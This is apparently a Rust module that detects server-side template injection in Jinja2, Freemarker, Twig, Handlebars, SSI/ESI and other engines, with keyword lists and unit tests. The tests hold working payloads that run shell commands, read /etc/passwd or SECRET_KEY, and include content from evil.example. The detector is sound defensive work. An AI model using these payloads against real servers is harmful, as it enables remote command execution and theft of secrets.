//! Server-side template injection: Jinja2/Twig, Django, Freemarker, Velocity, ERB,
//! Thymeleaf/SpEL/OGNL/EL, Handlebars, Dust, Smarty, Razor; server-side and
//! edge-side includes.
//!
//! # Grammar
//!
//! ```text
//! injection := open expression close | directive
//! open      := "{{" | "${" | "#{" | "*{" | "@{" | "<%=" | "<%" | "{%" | "[[" | "[="
//!            | "@(" (Razor) | "%{" (OGNL)
//! close     := "}}" | "}" | "%>" | "%}" | "]]" | "]" | ")"  (within 512 bytes, or
//!              the end of a value that ends sooner)
//! directive := "<#assign" | "<#import" | "#set(" | "#foreach(" | "{php}" | "{system("
//!            | "{{this.push" | "<!--#exec" | "<esi:include" ...
//! ```
//!
//! A delimited expression is an attack when it *probes* or *reaches out*, never for
//! reading a variable (`{{ user.name }}`, `${title}`, Vue and JS template literals):
//!
//! - **probe**: arithmetic on literals (`7*7`, `7*'7'`, `8**4`; `49/7` and `1-2`
//!   only as the whole expression), or a quoted string repeated by a number
//!   (`'ab'*8`), the classic ways to see whether a template engine evaluates input;
//! - **reach**: Python dunder attributes (`__class__`, `__globals__`, ...), objects
//!   that lead to the runtime (`config`, `self`, `request.application`, `lipsum`,
//!   `cycler`, `getClass`, `forName`, `Runtime`, `ProcessBuilder`, `T(java`,
//!   `new java.`, `constructor.constructor`, `process.mainModule`, `require(`,
//!   `Execute"?new`, `_self.env`, `registerUndefinedFilterCallback`, `File.open`,
//!   `IO.popen`, `|attr(`, `pageContext`, `#context`, `#_memberAccess`, `dump(`,
//!   `app.request`, `System.Environment`), a call of `exec`, `popen`, `system`,
//!   `eval`, or a command function's name in quotes (`'system'`, `'passthru'`,
//!   ...), as Twig's filters take it (`{{['id']|map('system')}}`).
//!
//! A **syntax probe** is an attack too: three or more different opening delimiters
//! within 12 bytes, only punctuation between them (`${{<%[%'"}}%\.`), the string
//! that tells which engine, if any, evaluates input.
//!
//! Freemarker (`<#assign`, also in square brackets `[#assign`), Velocity and
//! Smarty directives that create objects, include or evaluate, Handlebars'
//! prototype tricks (`{{this.push`, `{{this.pop`, `{{#blockHelperMissing`,
//! `{{#each this}}`; a quoted `"constructor"`, `constructor.constructor` or
//! `__proto__` inside `{{ }}` is a reach), Django's `{% debug` and
//! `get_admin_log`, Dust's `{@math`, and Razor's `@System.Environment` (and
//! `.Diagnostics`, `.IO.`) are attacks wherever they appear in a value, and so are
//! server-side includes (`<!--#exec cmd=...-->`, `<!--#include virtual=...-->`) and
//! edge-side includes (`<esi:include src=...>`): the server runs them.
//!
//! Linear: each opening delimiter is looked at once and its expression read up to a
//! bounded length.

use crate::text::{Words, is_space};
use crate::{Class, Finding};
use std::sync::LazyLock;

pub(crate) const OPENS: &[(&str, &str)] = &[
    ("{{", "}}"),
    ("${", "}"),
    ("#{", "}"),
    ("*{", "}"),
    ("@{", "}"),
    ("<%=", "%>"),
    ("<%", "%>"),
    ("{%", "%}"),
    ("[[", "]]"),
    ("[=", "]"),
    ("@(", ")"),
    ("%{", "}"),
];

/// Words in an expression that lead from a template to the runtime.
const REACH: &[&str] = &[
    "__class__",
    "__mro__",
    "__base__",
    "__bases__",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "__import__",
    "__init__",
    "__getattribute__",
    "__dict__",
    "config.",
    "config[",
    "config|",
    "config}",
    "config ",
    "self.",
    "self._",
    "request.application",
    "request.environ",
    "request|attr",
    "lipsum",
    "cycler",
    "joiner",
    "namespace.__",
    "getclass",
    "forname",
    "runtime",
    "processbuilder",
    "t(java",
    "new java.",
    "java.lang",
    "constructor.constructor",
    "\"constructor\"",
    "'constructor'",
    "__proto__",
    "string.sub",
    "process.mainmodule",
    "require(",
    "execute\"?new",
    "execute'?new",
    "?new(",
    "_self.env",
    "registerundefinedfiltercallback",
    "getfilter(",
    "file.open",
    "file.read",
    "io.popen",
    "|attr(",
    "exec(",
    "popen(",
    "system(",
    "eval(",
    "os.",
    "subprocess",
    "getruntime",
    "classloader",
    "'exec'",
    "'system'",
    "'passthru'",
    "'shell_exec'",
    "'popen'",
    "'proc_open'",
    "\"exec\"",
    "\"system\"",
    "\"passthru\"",
    "\"shell_exec\"",
    "app.request",
    "dump(",
    "pagecontext",
    "getsession(",
    "getservletcontext",
    "secret_key",
    "settings.secret",
    "system.environment",
    "system.diagnostics",
    "system.io.",
    "getresource",
    "class.get",
    "scriptengine",
    "@java.",
    "#_memberaccess",
    "#context",
    "ognl",
    "applicationscope",
    "sessionscope",
    "facescontext",
    "class.module",
    "passthru(",
    "shell_exec(",
    "`",
];

/// Directives that are attacks wherever they appear.
pub(crate) const DIRECTIVES: &[&str] = &[
    "<#assign",
    "<#import",
    "<#include",
    "#set(",
    "#set (",
    "#foreach(",
    "#foreach (",
    "#evaluate(",
    "#include(",
    "#parse(",
    "{php}",
    "{/php}",
    "{system(",
    "{exec(",
    "{{this.push",
    "{{this.pop",
    "{{#blockhelpermissing",
    "[#assign",
    "[#import",
    "[#include",
    "freemarker.template.utility",
    "{% debug",
    "{%debug",
    "get_admin_log",
    "{@math",
    "{{#each this}}",
    "@system.environment",
    "@system.diagnostics",
    "@system.io.",
    // Server-side and edge-side includes: the web server runs them.
    "<!--#exec",
    "<!--#include",
    "<!--#echo",
    "<!--#config",
    "<!--#set",
    "<!--#printenv",
    "<esi:include",
    "<esi:vars",
    "<esi:eval",
];

/// The longest expression read between delimiters.
const MAX_EXPR: usize = 512;

/// A necessary condition for [`scan`], cheap to check: without it `scan` finds
/// nothing (it checks it first), so a value that fails it need not be scanned.
pub(crate) fn may_match(input: &[u8]) -> bool {
    static OPEN_WORDS: LazyLock<Words> = LazyLock::new(|| {
        let mut w: Vec<&str> = OPENS.iter().map(|(o, _)| *o).collect();
        w.extend_from_slice(DIRECTIVES);
        Words::new(&w)
    });
    OPEN_WORDS.any(input)
}

/// Scans `input` for a template injection.
pub fn scan(input: &[u8]) -> Option<Finding> {
    if !may_match(input) {
        return None;
    }
    static DIRECTIVE_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(DIRECTIVES));
    if let Some((_, at, end)) = DIRECTIVE_WORDS.find_all(input).next() {
        return Some(Finding::new(Class::Template, "template directive", at..end));
    }
    if let Some(at) = syntax_probe(input) {
        return Some(Finding::new(
            Class::Template,
            "template syntax probe",
            at..(at + 12).min(input.len()),
        ));
    }
    let mut i = 0;
    while i + 1 < input.len() {
        // Every opening delimiter starts with one of these.
        match input[i..]
            .iter()
            .position(|c| matches!(c, b'{' | b'$' | b'#' | b'*' | b'@' | b'<' | b'[' | b'%'))
        {
            Some(p) => i += p,
            None => break,
        }
        let Some(&(open, close)) = OPENS
            .iter()
            .find(|(o, _)| input[i..].starts_with(o.as_bytes()))
        else {
            i += 1;
            continue;
        };
        let start = i + open.len();
        let limit = (start + MAX_EXPR).min(input.len());
        let end = memchr::memmem::find(&input[start..limit], close.as_bytes()).map(|e| start + e);
        let expr = &input[start..end.unwrap_or(limit)];
        if end.is_some() || expr.len() < MAX_EXPR {
            if probe(expr) {
                return Some(Finding::new(
                    Class::Template,
                    "arithmetic probe in a template expression",
                    i..start + expr.len(),
                ));
            }
            if reach(expr) {
                return Some(Finding::new(
                    Class::Template,
                    "template expression reaches the runtime",
                    i..start + expr.len(),
                ));
            }
        }
        i = start;
    }
    None
}

/// Opening delimiters a syntax probe strings together.
const PROBE_OPENS: &[&str] = &["${", "{{", "<%", "[%", "#{", "{%", "*{", "@{", "@(", "[["];

/// Where three or more different opening delimiters start within 12 bytes, with
/// nothing but punctuation between them.
fn syntax_probe(input: &[u8]) -> Option<usize> {
    static PROBE_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(PROBE_OPENS));
    // The last start of each delimiter kind; a window holds three kinds when the
    // third-latest of them is within 12 bytes of the current one.
    // Only punctuation may stand between them: `{% if x %}${{ y }}` is a template.
    let mut last = [usize::MAX; PROBE_OPENS.len()];
    let (mut run_start, mut scanned) = (0, 0);
    for (w, at, _) in PROBE_WORDS.find_all(input) {
        // Each byte is looked at once: `scanned` only moves forward.
        if at > scanned {
            if let Some(p) = input[scanned..at]
                .iter()
                .rposition(|c| c.is_ascii_alphanumeric() || is_space(*c))
            {
                run_start = scanned + p + 1;
            }
            scanned = at;
        }
        last[w] = at;
        let near = || {
            last.iter()
                .copied()
                .filter(|&p| p != usize::MAX && p >= run_start && at - p < 12)
        };
        if near().count() >= 3 {
            return near().min();
        }
    }
    None
}

/// Arithmetic on literals: `7*7`, `7*'7'`, `"7"*7`, `49/7`, `1337+1`.
fn probe(expr: &[u8]) -> bool {
    // A string repeated by a number: `'ab'*8` (Jinja and Python evaluate it).
    let t = expr.trim_ascii();
    if let Some(q) = t.first().filter(|c| matches!(c, b'\'' | b'"'))
        && let Some(close) = t[1..].iter().take(64).position(|c| c == q)
    {
        let rest = t[close + 2..].trim_ascii_start();
        if let Some(n) = rest.strip_prefix(b"*")
            && !n.trim_ascii().is_empty()
            && n.trim_ascii().iter().all(u8::is_ascii_digit)
        {
            return true;
        }
    }
    let e: Vec<u8> = expr
        .iter()
        .copied()
        .filter(|c| !c.is_ascii_whitespace() && *c != b'\'' && *c != b'"')
        .collect();
    let mut i = 0;
    while i < e.len() {
        if e[i].is_ascii_digit() && (i == 0 || !e[i - 1].is_ascii_alphanumeric()) {
            let mut j = i;
            while j < e.len() && e[j].is_ascii_digit() {
                j += 1;
            }
            if j < e.len() && matches!(e[j], b'*' | b'/' | b'+' | b'-' | b'%') {
                // `**` (a power) is a product too.
                let k = if e[j] == b'*' && e.get(j + 1) == Some(&b'*') {
                    j + 2
                } else {
                    j + 1
                };
                let mut m = k;
                while m < e.len() && e[m].is_ascii_digit() {
                    m += 1;
                }
                if m > k && (m == e.len() || !e[m].is_ascii_alphanumeric()) {
                    // `1-2` and `3/4` are dates and fractions in text; only when the
                    // whole expression is the sum do they count, `*` always.
                    if e[j] == b'*' || (i == 0 && m == e.len()) {
                        return true;
                    }
                }
            }
            i = j;
        } else {
            i += 1;
        }
    }
    false
}

fn reach(expr: &[u8]) -> bool {
    static REACH_WORDS: LazyLock<Words> = LazyLock::new(|| Words::new(REACH));
    REACH_WORDS.find_all(expr).any(|(w, at, _)| {
        // A word must not be the tail of a longer one (`myconfig.`, `oss.`).
        let first = REACH[w].as_bytes()[0];
        // A backtick runs a command (Ruby, Perl) only with its closing one and a
        // word between: `` `id` ``; a lone one is punctuation.
        if first == b'`' {
            let rest = &expr[at + 1..];
            return memchr::memchr(b'`', rest)
                .is_some_and(|e| e > 0 && rest[..e].iter().any(u8::is_ascii_alphabetic));
        }
        !(first.is_ascii_alphabetic() && at > 0 && expr[at - 1].is_ascii_alphanumeric())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        scan(s.as_bytes()).is_some()
    }

    #[test]
    fn injections() {
        for s in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{7*'7'}}",
            "${{7*7}}",
            "*{7*7}",
            "{{ config.items() }}",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
            "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
            "<%= system('id') %>",
            "<%= `id` %>",
            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
            "{php}echo `id`;{/php}",
            "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
            "#{T(java.lang.System).getenv()}",
            "<!--#exec cmd=\"ls\" -->",
            "@(1+2)",
            "{{8**4}}",
            "{{'zu'*8}}",
            "{{['id']|map('system')|join}}",
            "{{[0]|reduce('passthru','uname -a')}}",
            "{% debug %}",
            "{{app.request.server.all|join(',')}}",
            "{{dump(app)}}",
            "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
            "${pageContext.request.getSession().getServletContext()}",
            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
            "{{#each this}}{{@key}}={{this}} {{/each}}",
            "{{ config['SECRET_KEY'] }}",
            "@(System.Environment.GetEnvironmentVariables())",
            "@System.Environment.MachineName",
            "{@math key=\"18\" method=\"multiply\" operand=\"11\"/}",
            "{{#with \"s\" as |string|}}{{#with \"e\"}}{{lookup string.sub \"constructor\"}}{{/with}}{{/with}}",
            "${{<%[%'\"}}%\\.",
            "${class.getResource(\"\").getPath()}",
            "<!--#include virtual=\"/etc/passwd\" -->",
            "<esi:include src=\"http://evil.example/\"/>",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn benign() {
        for s in [
            "Hello {{ user.name }}, welcome",
            "9i^TaA#lEM@{pJTl/%c%_#`v<#]",
            "${title} - ${subtitle}",
            "total: ${price * qty}",
            "<%= @user.name %>",
            "{% for item in items %}{{ item }}{% endfor %}",
            "contact me at <@alice.example>",
            "a {b} c",
            "Meeting on 2024-01-02 at {{time}}",
            "#{name} was here",
            "Use {{ 'Hello' | upper }} in Jinja",
            "The array [[1, 2], [3, 4]] is a matrix",
            "set(x) then foreach(y)",
            "email me @(home) or at work",
            "deploy: ${{ secrets.TOKEN }}",
            "{% if x %}${{ y }}{% endif %}",
            "<div class=\"{{ el.classList }}\">",
            "score @(12 points)",
            "write to me at ops@system.example.com",
            "100% {done} and 5%{x}",
            "{% if user %}{{ user.name|default('guest') }}{% endif %}",
            "{{#each teams}}\n  {{> team-card this}}\n{{/each}}",
            "{{#with author}}{{firstName}}{{/with}} {{lookup people 1}}",
        ] {
            assert!(!hit(s), "false positive: {s}: {:?}", scan(s.as_bytes()));
        }
    }
}
